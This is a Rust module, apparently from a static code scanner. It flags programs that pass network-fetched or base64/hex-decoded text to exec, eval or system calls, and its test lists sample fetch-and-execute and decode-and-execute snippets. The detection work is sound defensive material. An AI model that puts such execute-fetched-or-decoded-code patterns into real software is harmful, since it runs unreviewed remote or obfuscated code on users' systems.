//! Programs that run a text which they fetch or decode themselves.

use super::calls::RUNS;
use super::tokens::{Bindings, Dialect, Token, arguments, tokens};

/// Functions that run a text of their own language.
const EVALUATES: [&str; 6] = [
    "exec",
    "eval",
    "instance_eval",
    "Function",
    "loadstring",
    "assert",
];

/// Functions that decode.
const DECODES: [&str; 16] = [
    "b64decode",
    "b32decode",
    "b16decode",
    "a85decode",
    "decodebytes",
    "decompress",
    "unhexlify",
    "fromhex",
    "decode_base64",
    "decode64",
    "strict_decode64",
    "base64_decode",
    "hex2bin",
    "gzinflate",
    "gzuncompress",
    "atob",
];

/// Whether a word names a call that fetches or decodes.
pub(in super::super) fn decodes(word: &str) -> bool {
    // Names with digits in them are written in pieces.
    let letters = |name: &&str| {
        name.split(|c: char| c.is_ascii_digit())
            .any(|part| part == word)
    };
    DECODES.iter().any(letters) || matches!(word, "urlopen" | "fetch" | "base")
}

/// Whether the program does.
pub(super) fn runs_unread(program: &str, dialect: Dialect) -> bool {
    let all = tokens(program, dialect);
    let bindings = Bindings::of(&all);
    all.iter().enumerate().any(|(at, token)| {
        let Token::Name(name) = token else {
            return false;
        };
        // `/…/.exec(text)` looks for something in a text.
        let method = at > 0 && all[at - 1] == Token::Mark('.');
        let evaluates = EVALUATES.contains(&name.as_str()) && !method;
        if !evaluates && !RUNS.contains(&name.as_str()) {
            return false;
        }
        bindings
            .fill(arguments(&all[at + 1..]))
            .iter()
            .any(|given| match given {
                Token::Name(name) => {
                    DECODES.contains(&name.as_str())
                        || (evaluates && matches!(name.as_str(), "urlopen" | "fetch"))
                }
                // `Buffer.from(text, "base64")`, `get("https://…")`
                Token::Text(text) => {
                    text == "base64"
                        || (evaluates && text.starts_with("http") && text.contains("://"))
                }
                _ => false,
            })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unread_texts_are_told_from_data() {
        for (program, expect) in [
            ("exec(urlopen('https://x').read())", true),
            ("exec(requests.get('https://x').text)", true),
            ("c = requests.get('https://x').text\nexec(c)", true),
            ("exec(base64.b64decode('aGk='))", true),
            ("os.system(b64decode('bHM=').decode())", true),
            ("eval(Buffer.from('MQ==', 'base64').toString())", true),
            ("eval(atob('MQ=='))", true),
            ("eval get('https://x')", true),
            ("print(requests.get('https://x').text)", false),
            ("print(b64decode('aGk='))", false),
            ("/x(.*)/.exec('https://x')", false),
            ("exec('print(1)')", false),
            ("os.system('ls https://x')", false),
        ] {
            assert_eq!(
                runs_unread(program, Dialect::default()),
                expect,
                "{program}"
            );
        }
    }
}
